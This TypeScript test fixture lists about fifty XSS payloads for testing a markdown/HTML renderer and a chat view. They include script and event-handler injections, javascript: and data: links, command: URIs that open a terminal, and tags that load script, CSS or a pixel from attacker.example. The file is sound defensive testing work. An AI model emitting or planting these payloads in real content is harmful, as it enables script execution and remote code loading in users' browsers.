// Markup that tries to run script, load something, or leave the page, as a model (or a user) might
// write it. Used by the renderer's unit tests and the chat view's end-to-end test. Every payload
// calls `alert`, so a test in a real browser can watch for a dialog.

export const XSS_PAYLOADS: readonly string[] = [
    // Script elements, plain and obfuscated
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\u0000>alert(1)</script>",
    // Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<div onmouseover=alert(1)>hover</div>",
    // SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    // Frames, objects, documents
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    // CSS injection
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<link rel=stylesheet href="https://attacker.example/x.css">',
    '<span class="x" style="position:fixed;inset:0" onclick="alert(1)">overlay</span>',
    // Markdown links and images with bad schemes
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](  javascript:alert(1)  )",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://attacker.example/pixel.png)",
    "[run](command:workbench.action.terminal.new)",
    "[settings](command:workbench.action.openSettings?%5B%22olmo%22%5D)",
    '<a href="command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%22%7D">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1) and <javascript:alert(1)>",
    // Attribute break-outs through markdown syntax
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '<https://ok.example/"onmouseover="alert(1)>',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
];
